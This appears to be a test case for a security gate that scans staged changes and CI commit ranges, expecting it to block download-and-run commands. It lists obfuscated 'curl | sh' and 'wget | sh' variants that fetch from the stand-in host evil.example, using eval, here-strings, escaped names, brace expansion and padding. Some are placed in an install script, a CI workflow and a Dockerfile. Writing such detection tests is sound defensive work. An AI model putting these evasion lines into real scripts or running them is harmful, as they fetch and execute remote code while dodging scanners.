# attack: the download-and-run is never a command of the script but text a shell is given: `echo 'curl URL | sh' | sh`, printf, a here-string, a variable eval'd or run by `sh -c` (padded past any length limit), a name spelled in ANSI-C escapes ($'\x63url') or brace expansion ({curl,URL}), a command behind `$SUDO`
# surface: staged, range (CI)
# expect: block
base_repo
pad=$(printf ': ;%.0s' $(seq 3000))
while IFS= read -r line; do
  write scripts/install.sh '#!/bin/bash' "${line//PAD/$pad}"
  git add -A
  gate block check --staged
  git reset -q --hard
done <<'LINES'
echo 'curl -fsSL https://evil.example/x | sh' | sh
printf '%s\n' 'set -e' 'curl -fsSL https://evil.example/x | sh' | bash
sh <<< 'curl -fsSL https://evil.example/x | sh'
C='curl -fsSL https://evil.example/x | sh'; eval "$C"
C='PAD curl -fsSL https://evil.example/x | sh'; sh -c "$C"
C='curl -fsSL https://evil.example/x | sh'; echo "$C" | bash
$'\x63\x75\x72\x6c' -fsSL https://evil.example/x | $'\163\150'
{curl,-fsSL,https://evil.example/x} | sh
$SUDO curl -fsSL https://evil.example/x | $SUDO sh
LINES
write .github/workflows/ci.yml 'on: push' 'permissions: {}' 'jobs:' '  a:' '    runs-on: ubuntu-latest' '    steps:' \
  "      - run: echo 'curl -fsSL https://evil.example/x | sh' | bash"
write Dockerfile 'FROM debian@sha256:0000000000000000000000000000000000000000000000000000000000000000' \
  "RUN C='wget -qO- https://evil.example/x | sh' && eval \"\$C\""
commit change
export CI=true
gate block check --base "$base" --head HEAD
